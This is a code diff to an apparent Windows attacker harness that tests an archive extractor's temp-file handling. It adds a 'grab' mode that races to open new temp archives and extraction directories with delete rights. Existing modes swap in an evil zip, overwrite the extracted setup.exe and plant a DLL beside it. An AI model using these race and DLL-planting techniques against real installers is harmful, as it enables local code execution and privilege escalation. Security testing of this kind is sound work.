@@ -5,6 +5,10 @@
 //   overwrite  overwrite the extracted setup.exe once it is closed
 //   swap       replace the archive by <evil zip> before it is extracted
 //   plant      put plant.dll (and setup.exe.local\plant.dll) beside setup.exe
+//   grab       open each new archive and extraction directory for deletion,
+//              as fast as it can, for as long as it exists; an open that
+//              works is reported with the number of entries the directory
+//              held then ("grabbed\t<name>\t<entries>")
 // evil.exe and plant.dll are taken from the attacker's own folder. Every
 // attempt's Win32 result goes to <report>, which starts with "ready" once
 // the attacker watches. It stops when <report>.stop appears or after 60 s.
@@ -124,6 +128,48 @@ void Plant(const std::wstring& base) {
     Note("plant", local + L"\\plant.dll", CopyFileW(dll.c_str(), (local + L"\\plant.dll").c_str(), TRUE));
 }
 
+// The number of entries in the directory open as `directory`; -1 for a
+// file or what cannot be read.
+int EntriesIn(HANDLE directory) {
+  alignas(8) static unsigned char buffer[16384];
+  int count = 0;
+  FILE_INFO_BY_HANDLE_CLASS kind = FileFullDirectoryRestartInfo;
+  while (GetFileInformationByHandleEx(directory, kind, buffer, sizeof buffer)) {
+    kind = FileFullDirectoryInfo;
+    for (size_t at = 0;;) {
+      const FILE_FULL_DIR_INFO* entry = reinterpret_cast<const FILE_FULL_DIR_INFO*>(buffer + at);
+      std::wstring name(entry->FileName, entry->FileNameLength / sizeof(wchar_t));
+      if (name != L"." && name != L"..") ++count;
+      if (!entry->NextEntryOffset) break;
+      at += entry->NextEntryOffset;
+    }
+  }
+  return GetLastError() == ERROR_NO_MORE_FILES ? count : -1;
+}
+
+// One try at each target; a target that is gone is dropped.
+void Grab(std::set<std::wstring>& targets) {
+  for (auto it = targets.begin(); it != targets.end();) {
+    std::wstring path = temp + *it;
+    // Listing rights too, so that what a directory held is read through the
+    // very handle that got in.
+    HANDLE object = CreateFileW(path.c_str(), DELETE | FILE_LIST_DIRECTORY,
+                                FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE,
+                                nullptr, OPEN_EXISTING, FILE_FLAG_BACKUP_SEMANTICS | FILE_FLAG_OPEN_REPARSE_POINT,
+                                nullptr);
+    DWORD error = GetLastError();
+    if (object != INVALID_HANDLE_VALUE) {
+      fprintf(report, "grabbed\t%s\t%d\n", Narrow(*it).c_str(), EntriesIn(object));
+      fflush(report);
+      CloseHandle(object);
+    }
+    if (object == INVALID_HANDLE_VALUE && (error == ERROR_FILE_NOT_FOUND || error == ERROR_PATH_NOT_FOUND))
+      it = targets.erase(it);
+    else
+      ++it;
+  }
+}
+
 std::wstring stopPath;
 bool Stopped() { return Exists(stopPath); }
 
@@ -142,7 +188,8 @@ int wmain(int argc, wchar_t** argv) {
   own = buffer;
   own = own.substr(0, own.find_last_of(L'\\') + 1);
   std::wstring evilZip = argc > 3 ? argv[3] : L"";
-  if (mode != L"precreate" && mode != L"overwrite" && mode != L"swap" && mode != L"plant") return 2;
+  if (mode != L"precreate" && mode != L"overwrite" && mode != L"swap" && mode != L"plant" && mode != L"grab")
+    return 2;
 
   // Only what appears from now on is a target.
   std::set<std::wstring> seen = List(L"vexlode_*.zip", false);
@@ -153,7 +200,23 @@ int wmain(int argc, wchar_t** argv) {
   fflush(report);
 
   ULONGLONG deadline = GetTickCount64() + 60000;
+  std::set<std::wstring> targets;
+  unsigned long tries = 0;
   while (GetTickCount64() < deadline && !Stopped()) {
+    if (mode == L"grab") {
+      // Looking for new names costs far more than a try: look now and then.
+      if (tries++ % 16 == 0) {
+        for (bool directories : {false, true}) {
+          for (const std::wstring& name : List(L"vexlode_*", directories)) {
+            if (!seen.insert(name).second) continue;
+            targets.insert(name);
+            fprintf(report, "target\t%s\n", Narrow(name).c_str());
+          }
+        }
+      }
+      Grab(targets);
+      continue;
+    }
     if (mode == L"precreate" || mode == L"swap") {
       for (const std::wstring& name : List(L"vexlode_*.zip", false)) {
         if (!seen.insert(name).second) continue;
@@ -173,6 +236,7 @@ int wmain(int argc, wchar_t** argv) {
     }
     Sleep(1);
   }
+  if (mode == L"grab") fprintf(report, "tries\t%lu\n", tries);
   fprintf(report, "end\n");
   fclose(report);
   return 0;
